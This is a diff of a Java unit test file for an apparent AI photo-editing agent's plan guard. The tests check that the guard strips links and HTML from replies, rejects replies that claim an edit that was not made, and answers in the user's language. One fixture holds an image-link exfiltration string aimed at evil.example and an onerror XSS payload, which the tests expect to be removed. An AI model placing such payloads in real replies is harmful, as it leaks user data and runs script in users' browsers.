@@ -3,13 +3,14 @@ package dev.chatbrush.agent.guard;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import dev.chatbrush.agent.catalogue.CatalogueSnapshot;
 import dev.chatbrush.agent.plan.Catalogues;
 import dev.chatbrush.agent.plan.Conversation;
 import dev.chatbrush.agent.plan.Plan;
 import dev.chatbrush.agent.plan.PlanContext;
 import dev.chatbrush.agent.plan.PlanStep;
 import dev.chatbrush.agent.plan.Replies;
-import dev.chatbrush.agent.plan.RulePlanner;
+import dev.chatbrush.agent.plan.rules.RulePlanner;
 import java.util.Collections;
 import java.util.List;
 import java.util.Optional;
@@ -17,8 +18,8 @@ import org.junit.jupiter.api.Test;
 
 class PlanGuardTest {
   private final Replies replies = new Replies();
-  private final PlanGuard guard =
-      new PlanGuard(new RulePlanner(replies), new Conversation(replies));
+  private final RulePlanner rules = new RulePlanner(replies);
+  private final PlanGuard guard = new PlanGuard(new Conversation(replies));
 
   @Test
   void dropsHistoryStepsThatTheWordsDoNotAskFor() {
@@ -100,7 +101,7 @@ class PlanGuardTest {
             "Hi! ![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> see http://evil.example",
             "");
 
-    Plan plan = guard.check(proposal, context("hello", false), Catalogues.plain());
+    Plan plan = check("hello", false, proposal);
 
     assertThat(plan.reply()).startsWith("Hi!").doesNotContain("http", "<", "evil");
   }
@@ -109,7 +110,7 @@ class PlanGuardTest {
   void doesNotTakeATaleForAnEdit() {
     Proposal tale = new Proposal(List.of(), "Done! I made it night.", "");
 
-    assertThatThrownBy(() -> guard.check(tale, context("make it night", false), Catalogues.plain()))
+    assertThatThrownBy(() -> check("make it night", false, tale))
         .isInstanceOf(ProposalRejectedException.class)
         .hasMessageContaining("only talked");
   }
@@ -118,18 +119,19 @@ class PlanGuardTest {
   void answersInThePersonsLanguageWhenTheModelDoesNot() {
     Proposal wrong = new Proposal(List.of(), "I can edit photos.", "");
 
-    Plan plan = guard.check(wrong, context("뭐 할 수 있어?", false), Catalogues.plain());
+    Plan plan = check("뭐 할 수 있어?", false, wrong);
 
     assertThat(plan.reply()).contains("선택하고");
   }
 
   private Plan check(String text, boolean hasMask, Proposal.Step... steps) {
-    return guard.check(
-        new Proposal(List.of(steps), "", ""), context(text, hasMask), Catalogues.plain());
+    return check(text, hasMask, new Proposal(List.of(steps), "", ""));
   }
 
-  private static PlanContext context(String text, boolean hasMask) {
-    return new PlanContext(text, hasMask, true, true, List.of());
+  private Plan check(String text, boolean hasMask, Proposal proposal) {
+    PlanContext context = new PlanContext(text, hasMask, true, true, List.of());
+    CatalogueSnapshot catalogue = Catalogues.plain();
+    return guard.check(proposal, context, catalogue, rules.read(context, catalogue));
   }
 
   private static Proposal.Step call(String tool) {
